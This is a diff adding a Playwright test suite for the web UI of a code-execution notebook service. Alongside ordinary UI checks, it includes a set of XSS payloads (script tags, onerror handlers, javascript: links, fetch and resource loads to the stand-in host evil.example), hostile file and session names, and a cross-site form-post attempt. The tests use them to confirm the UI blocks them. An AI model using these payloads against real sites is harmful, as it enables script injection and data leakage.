@@ -1,0 +1,485 @@
+"""A person at the UI: what they see, do and type, whatever code and names are like."""
+
+from __future__ import annotations
+
+import re
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from typing import TYPE_CHECKING, Any
+from urllib.parse import quote
+
+import pytest
+from tests.support.client import CLIENT, Client, connect
+from tests.support.server import V8_FLAGS, Server
+from tests.support.waiting import wait_for
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+
+    from playwright.sync_api import Browser, Dialog, Locator, Page
+
+pytestmark = pytest.mark.timeout(120)
+
+KEY = "the-key-of-somebody-at-the-ui"
+HOSTILE = "<img src=x onerror='hacked=1'>\"'</a></title></textarea>ש"
+"""A name as a session may have it: at most 128 printable characters."""
+SHOW = "({{ [Symbol.for('Jupyter.display')]: () => ({0}) }})"
+
+
+@pytest.fixture(scope="module")
+def server() -> Iterator[Server]:
+    """A server without keys."""
+    made = Server(*V8_FLAGS)
+    yield made
+    assert made.stop() == 0
+    assert not made.wrong()
+
+
+@pytest.fixture
+def client(server: Server) -> Iterator[Client]:
+    """An agent, who has what it made deleted in the end."""
+    with connect(server) as client:
+        yield client
+        for context in client.get("/contexts").json()["items"]:
+            client.delete(f"/contexts/{quote(context['id'], safe='')}")
+
+
+@pytest.fixture
+def evil() -> Iterator[Elsewhere]:
+    """Another server, which must hear of nothing."""
+    server = Elsewhere()
+    thread = threading.Thread(target=server.serve_forever)
+    thread.start()
+    CLIENT.get(f"{server.url}/heard")
+    assert server.heard == ["/heard"]
+    yield server
+    server.shutdown()
+    thread.join()
+    server.server_close()
+
+
+class Elsewhere(ThreadingHTTPServer):
+    """Notes what it is asked for."""
+
+    def __init__(self) -> None:
+        super().__init__(("127.0.0.1", 0), Noting)
+        self.url = f"http://127.0.0.1:{self.server_port}"
+        self.heard: list[str] = []
+
+
+class Noting(BaseHTTPRequestHandler):
+    server: Elsewhere
+
+    def do_GET(self) -> None:
+        self.server.heard.append(self.path)
+        self.send_response(204)
+        self.end_headers()
+
+    def do_POST(self) -> None:
+        self.do_GET()
+
+    def log_message(self, *_: Any) -> None:
+        pass
+
+
+@pytest.fixture
+def said(page: Page) -> list[str]:
+    """What the browser has said about the page."""
+    found: list[str] = []
+    page.on("console", lambda message: found.append(message.text))
+    return found
+
+
+@pytest.fixture
+def ui(server: Server, page: Page, said: list[str]) -> Iterator[Page]:
+    """The first page; nothing of what it does by itself is refused or fails."""
+    page.goto(server.url)
+    yield page
+    assert [text for text in said if "status of 404" not in text] == []
+
+
+def visit(ui: Page, server: Server, *place: str) -> None:
+    ui.goto("/".join((f"{server.url}/ui", *place)))
+
+
+def cell(ui: Page, number: int) -> Locator:
+    """A cell of the context that is shown; the first is 0, the last one -1."""
+    return ui.get_by_role("list", name="Cells").get_by_role("listitem").nth(number)
+
+
+def run(ui: Page, code: str) -> None:
+    """Type a cell, and send it from the keyboard."""
+    ui.get_by_label("Run a cell").fill(code)
+    ui.get_by_label("Run a cell").press("Control+Enter")
+
+
+def test_from_nothing_to_a_result(ui: Page, expect: Any, client: Client) -> None:
+    expect(ui).to_have_url(re.compile("/ui/$"))
+    expect(ui.get_by_text("No contexts yet")).to_be_visible()
+    ui.get_by_label("Language").select_option("typescript")
+    ui.get_by_role("button", name="New context").click()
+    expect(ui.get_by_text("No cells have run here yet")).to_be_visible()
+    run(ui, "const answer: number = 6 * 7; answer")
+    expect(cell(ui, 0)).to_contain_text("42")
+    expect(ui.get_by_label("Run a cell")).to_be_focused()
+    expect(ui.get_by_label("Run a cell")).to_have_value("")
+    run(ui, "answer + 1")
+    expect(cell(ui, 1)).to_contain_text("43")
+    # What was sent is recalled, as in a terminal.
+    ui.keyboard.press("ArrowUp")
+    ui.keyboard.press("ArrowUp")
+    expect(ui.get_by_label("Run a cell")).to_have_value(re.compile("6 [*] 7"))
+    ui.keyboard.press("ArrowDown")
+    expect(ui.get_by_label("Run a cell")).to_have_value("answer + 1")
+    (made,) = client.get("/contexts").json()["items"]
+    assert (made["language_name"], made["execution_count"]) == ("typescript", 2)
+    ui.get_by_role("link", name="Contexts", exact=True).click()
+    row = ui.get_by_role("row", name=made["id"])
+    expect(row).to_contain_text("idle")
+    expect(row).to_contain_text("MiB")
+
+
+def test_output_is_live_and_leaves_what_is_typed(
+    ui: Page, expect: Any, server: Server, client: Client
+) -> None:
+    here = client.create()
+    visit(ui, server, "contexts", here)
+    run(ui, "console.log('be' + 'gun'); await new Promise(() => {})")
+    expect(cell(ui, 0)).to_contain_text("begun")
+    expect(cell(ui, 0)).to_contain_text("running")
+    ui.get_by_label("Run a cell").press_sequentially("half a li")
+    # An agent goes on in the same context, and its cell waits.
+    client.post("/api/exec", json={"code": "'from an agent'", "session": here})
+    expect(ui.get_by_text("1 more waits for its turn")).to_be_visible()
+    ui.keyboard.type("ne")
+    ui.get_by_role("button", name="Interrupt").click()
+    expect(cell(ui, 1)).to_contain_text("from an agent")
+    expect(cell(ui, 0)).to_contain_text("failed")
+    expect(ui.get_by_label("Run a cell")).to_have_value("half a line")
+
+
+def test_a_cell_of_an_agent_appears(
+    ui: Page, expect: Any, server: Server, client: Client
+) -> None:
+    here = client.create()
+    row = ui.get_by_role("row", name=here)
+    expect(row).to_contain_text("idle")  # it was made after the page
+    visit(ui, server, "contexts", here)
+    client.run("1 + 1; 'two'", context_id=here)
+    expect(cell(ui, 0)).to_contain_text("two")
+    marked = "() => { const range = document.createRange();"
+    marked += " range.selectNodeContents(document.querySelector('pre.code'));"
+    ui.evaluate(marked + " getSelection().addRange(range); }")
+    client.run("'three'", context_id=here)
+    # What is being marked, to be copied, stays: nothing is brought up to date.
+    with ui.expect_event("request", lambda _: True, timeout=60_000) as looked:
+        ui.evaluate("getSelection().removeAllRanges()")
+    assert here in looked.value.url
+    expect(cell(ui, 1)).to_contain_text("three")
+
+
+HTML = """<h1 style='color: rgb(1, 2, 3)'>shown</h1>
+<script>parent.hacked = top.hacked = 1; fetch('https://evil.example/a')</script>
+<img src='https://evil.example/b' onerror='parent.hacked = 2'>
+<img src='/ui/contexts' onload='parent.hacked = 3'>
+<link rel=stylesheet href='https://evil.example/c'>
+<style>@import 'https://evil.example/d';
+h1 { background: url(https://evil.example/e) }</style>
+<meta http-equiv=refresh content='0; url=https://evil.example/f'>
+<base href='https://evil.example/'>
+<iframe src='https://evil.example/g'></iframe><object data='https://evil.example/h'></object>
+<form action='https://evil.example/i'><button>Send</button></form>
+<a href='https://evil.example/j' target=_top>Leave</a>
+<a href='https://evil.example/q'>Elsewhere</a>
+<a href='https://evil.example/k' target=_self ping='https://evil.example/l'>Away</a>
+<a href='javascript:parent.hacked=4'>Script</a>
+<video autoplay src='https://evil.example/m'></video><svg><script>parent.hacked=5</script></svg>
+</iframe><script>hacked = 6</script>"""
+SVG = """<svg xmlns='http://www.w3.org/2000/svg' onload='parent.hacked=7'>
+<script>parent.hacked = 8</script><image href='https://evil.example/n'/>
+<foreignObject><iframe src='https://evil.example/o'></iframe></foreignObject></svg>"""
+TEXTS = {
+    "text/markdown": "<script>hacked=9</script>![x](https://evil.example/p)",
+    "application/javascript": "hacked = 10; element.innerHTML = 1",
+    "text/plain": "</pre><script>hacked=11</script>\u202etxt.exe",
+    "application/vnd.x+xml": "<script>hacked=12</script>",
+    "image/png": 'A" onerror="hacked=13',
+}
+
+
+def test_hostile_outputs_do_nothing(  # noqa: PLR0913, PLR0917 - fixtures
+    ui: Page,
+    expect: Any,
+    server: Server,
+    client: Client,
+    evil: Elsewhere,
+    said: list[str],
+) -> None:
+    here = client.create()
+    for kind, given in {"text/html": HTML, "image/svg+xml": SVG, **TEXTS}.items():
+        text = given.replace("https://evil.example", evil.url)
+        client.run(SHOW.format(f"{{ {kind!r}: {text!r} }}"), context_id=here)
+    client.run(
+        "console.log('\\x1b]8;;javascript:hacked=14\\x07<b onclick=hacked=15>');"
+        "console.error('\\x1b[31m</pre><script>hacked=16</script>');"
+        "throw new Error('<img src=x onerror=hacked=17>')",
+        context_id=here,
+    )
+    visit(ui, server, "contexts", here)
+    frame = ui.frame_locator("iframe[title='HTML output']")
+    expect(frame.get_by_role("heading", name="shown")).to_be_visible()
+    expect(frame.get_by_role("heading")).to_have_css("color", "rgb(1, 2, 3)")
+    frame.get_by_role("button", name="Send").click()
+    for link in ("Elsewhere", "Leave", "Script", "Away"):
+        frame.get_by_role("link", name=link).click()
+    expect(ui.locator("iframe[title='SVG output']")).to_be_attached()
+    ui.locator("iframe[title='SVG output']").scroll_into_view_if_needed()
+    expect(cell(ui, -1)).to_contain_text("<img src=x onerror=hacked=17>")
+    expect(cell(ui, -1).locator(".ansi1")).to_contain_text("<script>hacked=16")
+    expect(ui.get_by_text("⟨U+202E⟩txt.exe")).to_be_visible()
+    # It stays so when the page is brought up to date.
+    client.run("'another one'", context_id=here)
+    expect(cell(ui, -1)).to_contain_text("another one")
+    run(ui, "'and one of the page'")
+    expect(cell(ui, -1)).to_contain_text("and one of the page")
+    assert ui.evaluate("typeof hacked") == "undefined"
+    assert len(ui.context.pages) == 1
+    assert ui.url.endswith(f"/ui/contexts/{here}")
+    assert evil.heard == ["/heard"]
+    assert ui.locator("main script, main [onerror], main [onclick]").count() == 0
+    # All that is said is that something in a frame was refused.
+    refused = re.compile("Content Security Policy|sandboxed|Blocked|Unsafe attempt")
+    assert [text for text in said if not refused.search(text)] == []
+    said.clear()
+
+
+def test_hostile_names_do_nothing(ui: Page, expect: Any, client: Client) -> None:
+    client.done("1", session=HOSTILE)
+    file = "<script>hacked=1<\u2215script>\u202egpj.exe"
+    code = f"const fs = require('fs'); fs.mkdirSync({HOSTILE.replace('/', '')!r});"
+    code += f"fs.writeFileSync({file!r}, ''); fs.writeFileSync('x'.repeat(250), '')"
+    context_id = client.get("/contexts").json()["items"][0]["id"]
+    assert context_id == HOSTILE
+    client.done(code, session=HOSTILE)
+    expect(ui.get_by_role("link", name=HOSTILE[:40])).to_be_visible()
+    ui.get_by_role("link", name=HOSTILE[:40]).click()
+    expect(ui.get_by_role("heading", level=1)).to_have_text(HOSTILE)
+    shown = re.compile("^<script>hacked=1<\u2215script>⟨U[+]202E⟩gpj.exe$")
+    expect(ui.get_by_role("link", name=shown)).to_be_visible()
+    ui.get_by_role("link", name="onerror='hacked=1'>\"'<a>").click()
+    expect(ui.get_by_text("No files.")).to_be_visible()
+    run(ui, "'still here'")
+    expect(cell(ui, -1)).to_contain_text("still here")
+    assert ui.evaluate("typeof hacked") == "undefined"
+    overflow = "document.documentElement.scrollWidth - innerWidth"
+    assert ui.evaluate(overflow) <= 0
+
+
+def test_files_and_packages(
+    ui: Page, expect: Any, server: Server, client: Client
+) -> None:
+    here = client.create()
+    visit(ui, server, "contexts", here)
+    expect(ui.get_by_text("No files.")).to_be_visible()
+    expect(ui.get_by_text("None imported.")).to_be_visible()
+    code = "const fs = require('fs'); fs.mkdirSync('data');"
+    code += "fs.writeFileSync('data/one.csv', 'a,b'.repeat(1000))"
+    client.run(code, context_id=here)
+    ui.get_by_role("link", name="data/").click()
+    expect(ui.get_by_text("2.9 KiB · ")).to_be_visible()
+    with ui.expect_download() as download:
+        ui.get_by_role("link", name="one.csv").click()
+    assert download.value.suggested_filename == "one.csv"
+    assert download.value.path().read_text() == "a,b" * 1000
+    with ui.expect_download() as download:
+        ui.get_by_role("link", name="Download").click()
+    assert "data/one.csv" in download.value.path().read_text()
+
+
+def test_the_life_of_a_context(
+    ui: Page, expect: Any, server: Server, client: Client
+) -> None:
+    here = client.create()
+    client.run("var kept = 'the state'", context_id=here)
+    visit(ui, server, "contexts", here)
+    questions: list[str] = []
+
+    def agree(dialog: Dialog) -> None:
+        questions.append(dialog.message)
+        dialog.accept()
+
+    ui.on("dialog", agree)
+    ui.get_by_role("button", name="Fork").click()
+    ui.wait_for_url(lambda url: "/contexts/" in url and here not in url)
+    run(ui, "kept")
+    expect(cell(ui, -1)).to_contain_text("the state")
+    fork = ui.url.rpartition("/")[2]
+    ui.get_by_role("button", name="Delete").click()
+    ui.wait_for_url(re.compile("/ui/$"))
+    expect(ui.get_by_role("row", name=here)).to_be_visible()
+    assert client.get(f"/contexts/{fork}").status_code == 404
+    visit(ui, server, "contexts", here)
+    client.post(f"/contexts/{here}/checkpoint")
+    ui.get_by_role("button", name="Restart").click()
+    expect(ui.get_by_text("No cells have run here yet")).to_be_visible()
+    run(ui, "typeof kept")
+    expect(cell(ui, -1)).to_contain_text("undefined")
+    ui.get_by_role("button", name="Restore").click()
+    expect(ui.get_by_role("status")).to_have_text("Restored")
+    run(ui, "kept")
+    expect(cell(ui, -1)).to_contain_text("the state")
+    assert [text.split("?")[0] for text in questions] == [
+        "Delete this context, its state and its files",
+        "Restart this context",
+        "Go back to the last saved state",
+    ]
+
+
+def test_a_question_can_be_declined(ui: Page, server: Server, client: Client) -> None:
+    here = client.create()
+    visit(ui, server, "contexts", here)
+    asked: list[str] = []
+
+    def decline(dialog: Dialog) -> None:
+        asked.append(dialog.message)
+        dialog.dismiss()
+
+    ui.on("dialog", decline)
+    ui.get_by_role("button", name="Delete").click()
+    assert len(asked) == 1
+    assert client.show(here)["state"] == "idle"
+
+
+def test_what_goes_wrong_is_said(
+    ui: Page, expect: Any, server: Server, client: Client
+) -> None:
+    here = client.create()
+    visit(ui, server, "contexts", here)
+    ui.get_by_label("for at most").fill("5")
+    client.delete(f"/contexts/{here}")
+    run(ui, "1")
+    expect(ui.get_by_role("status")).to_contain_text(f"{here} not found")
+    expect(ui.get_by_label("Run a cell")).to_have_value("1")
+    visit(ui, server, "contexts", "nobody")
+    expect(ui.get_by_role("alert")).to_contain_text("nobody")
+    expect(ui.get_by_role("link", name="All contexts")).to_be_visible()
+
+
+def test_a_server_that_is_away_is_waited_for(page: Page, expect: Any) -> None:
+    first = Server(*V8_FLAGS)
+    page.goto(first.url)
+    expect(page.get_by_text("No contexts yet")).to_be_visible()
+    assert first.stop() == 0
+    expect(page.get_by_role("status")).to_contain_text("can't be reached")
+    port = first.url.rpartition(":")[2]
+    again = Server(*V8_FLAGS, "--port", port)
+    expect(page.get_by_role("status")).to_be_hidden()
+    assert again.stop() == 0
+
+
+def test_without_a_script_everything_still_works(
+    browser: Browser, server: Server, expect: Any, client: Client
+) -> None:
+    ui = browser.new_page(java_script_enabled=False)
+    ui.goto(server.url)
+    ui.get_by_role("button", name="New context").click()
+    ui.get_by_label("Run a cell").fill("6 * 7")
+    ui.get_by_role("button", name="Run", exact=True).click()
+    (made,) = client.get("/contexts").json()["items"]
+    wait_for(lambda: client.show(made["id"])["execution_count"])
+    ui.reload()
+    expect(cell(ui, 0)).to_contain_text("42")
+    ui.close()
+
+
+# -- keys ------------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def guarded() -> Iterator[Server]:
+    made = Server(*V8_FLAGS, env={"ISOKERNEL_API_KEY": KEY})
+    yield made
+    assert made.stop() == 0
+    assert KEY not in made.said
+
+
+def test_keys(guarded: Server, page: Page, expect: Any) -> None:
+    page.goto(f"{guarded.url}/ui/contexts/nobody?path=a")
+    expect(page.get_by_label("API key or token")).to_be_focused()
+    page.keyboard.type("wrong")
+    page.keyboard.press("Enter")
+    expect(page.get_by_role("alert")).to_contain_text("API key")
+    page.get_by_label("API key or token").fill(KEY)
+    page.get_by_role("button", name="Sign in").click()
+    expect(page).to_have_url(f"{guarded.url}/ui/contexts/nobody?path=a")
+    (cookie,) = page.context.cookies()
+    assert (cookie["httpOnly"], cookie["sameSite"]) == (True, "Strict")
+    assert KEY not in str(cookie)
+    page.goto(guarded.url)
+    page.get_by_role("button", name="New context").click()
+    run(page, "6 * 7")
+    expect(cell(page, 0)).to_contain_text("42")
+    page.get_by_role("button", name="Sign out").click()
+    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
+    page.goto(guarded.url)
+    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
+
+
+def test_a_page_of_another_port_cannot_act(
+    guarded: Server, server: Server, page: Page, expect: Any
+) -> None:
+    """It is the same site to the browser, which sends the cookie along."""
+    page.goto(guarded.url)
+    page.get_by_label("API key or token").fill(KEY)
+    page.keyboard.press("Enter")
+    expect(page.get_by_role("heading", name="Contexts")).to_be_visible()
+    page.goto(f"{server.url}/openapi.json")
+    page.evaluate(
+        """(url) => {
+          const form = document.createElement("form");
+          Object.assign(form, { method: "post", action: url });
+          document.body.append(form);
+          form.submit();
+        }""",
+        f"{guarded.url}/ui/contexts",
+    )
+    page.wait_for_url(f"{guarded.url}/ui/contexts")
+    with connect(guarded, **{"X-API-Key": KEY}) as client:
+        before = len(client.get("/contexts").json()["items"])
+        expect(page.locator("body")).to_contain_text(re.compile("Origin|origin|sign"))
+        assert len(client.get("/contexts").json()["items"]) == before
+
+
+# -- for everybody ---------------------------------------------------------------------
+
+
+def test_keyboard_is_enough(ui: Page, expect: Any, client: Client) -> None:
+    ui.keyboard.press("Tab")
+    expect(ui.get_by_role("link", name="Skip to the content")).to_be_focused()
+    ui.keyboard.press("Enter")
+    ui.keyboard.press("Tab")
+    expect(ui.get_by_label("Language")).to_be_focused()
+    ui.keyboard.press("Tab")
+    ui.keyboard.press("Enter")
+    expect(ui.get_by_text("No cells have run here yet")).to_be_visible()
+    ui.get_by_label("Run a cell").focus()
+    ui.keyboard.type("1 + 1")
+    ui.keyboard.press("Control+Enter")
+    expect(cell(ui, 0)).to_contain_text("2")
+    assert len(client.get("/contexts").json()["items"]) == 1
+
+
+@pytest.mark.parametrize("width", [360, 768, 1280])
+def test_pages_fit(
+    ui: Page, expect: Any, server: Server, client: Client, width: int
+) -> None:
+    ui.set_viewport_size({"width": width, "height": 800})
+    here = client.create()
+    client.run("'x'.repeat(500)", context_id=here)
+    client.run(
+        SHOW.format("{ 'text/html': '<table><tr><td>a</table>' }"), context_id=here
+    )
+    for place in ("", f"contexts/{here}", "sign-in"):
+        visit(ui, server, place)
+        expect(ui.get_by_role("main")).to_be_visible()
+        assert ui.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0
